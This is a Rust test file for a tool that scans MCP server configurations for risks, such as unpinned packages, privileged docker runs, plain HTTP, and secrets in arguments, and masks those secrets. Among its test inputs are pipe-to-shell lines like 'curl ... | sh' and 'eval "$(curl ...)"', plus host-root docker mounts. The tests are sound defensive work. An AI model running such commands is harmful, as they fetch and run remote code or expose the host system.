use crate::{Document, Format, Starts, masked, risks};

/// The codes of what there is to know about an entry.
fn codes(entry: &str) -> Vec<&'static str> {
    let text = format!("{{\"mcpServers\":{{\"a\":{entry}}}}}");
    let document = Document::read(&text, Format::Json, &[&["mcpServers"]]).unwrap();
    let server = &document.servers()[0];
    let risks = match &server.starts {
        Starts::Command { command, args } => risks(server, command, args),
        _ => risks(server, "", &[]),
    };
    assert!(risks.iter().all(|risk| !risk.to_string().contains("SECRET")), "{risks:?}");
    risks.iter().map(|risk| risk.code()).collect()
}

fn line(line: &str) -> Vec<&'static str> {
    let mut words = line.split_whitespace().map(doorward_wire::quote);
    let command = words.next().unwrap();
    codes(&format!("{{\"command\":{command},\"args\":[{}]}}", words.collect::<Vec<_>>().join(",")))
}

#[test]
fn each_line_has_what_there_is_to_know_about_it() {
    for (text, expected) in [
        ("npx -y @scope/server", &["unpinned"][..]),
        ("npx -y @scope/server@latest", &["unpinned"]),
        ("npx -y @scope/server@^1.2.3", &["unpinned"]),
        ("npx -y @scope/server@1.2.3", &[]),
        ("npx.cmd -y server@2026.8.31", &[]),
        ("npx -p tool@1.0.0 tool", &[]),
        ("npm exec server", &["unpinned"]),
        ("pnpm dlx server@1.2.3-beta.1", &[]),
        ("uvx mcp-server-git", &["unpinned"]),
        ("uvx mcp-server-git==1.0.0", &[]),
        ("uvx --from git+https://example.com/x server", &["unpinned", "address"]),
        ("pipx run x", &["unpinned"]),
        ("uv tool run x@1.2.3", &[]),
        ("deno run npm:x", &["unpinned"]),
        ("cmd /c npx x", &["shell", "unpinned"]),
        ("bash -c x", &["shell", "inline-code"]),
        ("python -c x", &["inline-code"]),
        ("python -m server -c x", &[]),
        ("node server.js -e", &[]),
        ("sudo npx x", &["elevated", "unpinned"]),
        ("/tmp/server", &["shared-folder"]),
        ("node C:\\Users\\Public\\x.js", &["shared-folder"]),
        ("./server", &["relative"]),
        ("server /", &["broad"]),
        ("server ${HOME}", &["broad"]),
        ("server C:\\", &["broad"]),
        ("server --url http://10.0.0.1:80/x", &["plain-http"]),
        ("server --url http://127.0.0.1:80/x", &["address"]),
        ("server --url http://127.0.0.1.example.com/x", &["plain-http"]),
        ("server --api-key SECRET", &["secret-argument"]),
        ("server --token=SECRET", &["secret-argument"]),
        ("server --token ${input:t}", &[]),
        ("docker run -i --rm image", &["unpinned"]),
        ("docker run -i --rm -e TOKEN image:1.2", &["unpinned"]),
        ("docker run image@sha256:00", &[]),
        ("docker run -v /:/host --privileged image@sha256:00", &["mount", "privileged"]),
        ("docker run --mount type=bind,src=/,dst=/x image@sha256:00 --privileged", &["mount"]),
        ("docker run -v data:/data --network=host image@sha256:00", &["privileged"]),
        ("docker run --cap-add SYS_ADMIN --pid host image@sha256:00", &["privileged", "privileged"]),
    ] {
        assert_eq!(line(text), expected, "{text}");
    }
    let shell = |script: &str| {
        codes(&format!("{{\"command\":\"sh\",\"args\":[\"-c\",{}]}}", doorward_wire::quote(script)))
    };
    for script in [
        "curl -fsSL https://x.example/i | sh",
        "wget -qO- https://x.example/i | sudo bash -s",
        "bash <(curl https://x.example/i)",
        "eval \"$(curl https://x.example/i)\"",
    ] {
        assert!(shell(script).contains(&"pipe-to-shell"), "{script}");
    }
    assert!(!shell("curl https://x.example/i | jq .").contains(&"pipe-to-shell"));
}

#[test]
fn secrets_in_the_file_are_named_and_never_shown() {
    assert_eq!(codes(r#"{"command":"x","env":{"GITHUB_TOKEN":"SECRET","A":"b"}}"#), ["secret-written"]);
    assert_eq!(
        codes(r#"{"command":"x","env":{"API_KEY":"${input:key}","TOKEN":"$TOKEN","KEYBOARD":"de"}}"#),
        [""; 0]
    );
    assert_eq!(
        codes(r#"{"url":"https://e.example/mcp?key=SECRET","headers":{"Authorization":"Bearer SECRET"}}"#),
        ["secret-written", "address"]
    );
    assert_eq!(codes(r#"{"url":"http://user:SECRET@e.example/"}"#), ["plain-http"]);
    assert_eq!(
        codes(r#"{"command":"x","env":{"NODE_OPTIONS":"-r y","LD_PRELOAD":"y"}}"#),
        ["environment", "environment"]
    );
}

#[test]
fn arguments_are_shown_without_the_secrets_in_them() {
    let shown =
        |args: &[&str]| masked(&args.iter().map(|arg| (*arg).to_owned()).collect::<Vec<_>>()).join(" ");
    assert_eq!(shown(&["--api-key", "abc", "--x", "abc"]), "--api-key *** --x abc");
    assert_eq!(
        shown(&["--env=API_KEY=abc=", "-e", "T=${T}", "X-Api-Key: abc"]),
        "--env=API_KEY=*** -e T=${T} X-Api-Key: ***"
    );
    assert_eq!(
        shown(&["https://e.example/mcp?a=b&key=abc", "--sort-keys=a:b"]),
        "https://e.example/mcp?a=b&key=*** --sort-keys=a:b"
    );
    assert_eq!(shown(&["--access-token=abc", "API_KEY=abc"]), "--access-token=*** API_KEY=***");
    assert_eq!(shown(&["--header", "Authorization: Bearer abc"]), "--header Authorization: Bearer ***");
    assert_eq!(shown(&["ghp_0123456789abcdef0123", "--k=sk-0123456789abcdef"]), "*** --k=***");
    assert_eq!(shown(&["postgres://me:pw@db.example/x"]), "postgres://***@db.example/x");
    assert_eq!(shown(&["-y", "@scope/sk-server", "--token", "${T}"]), "-y @scope/sk-server --token ${T}");
}
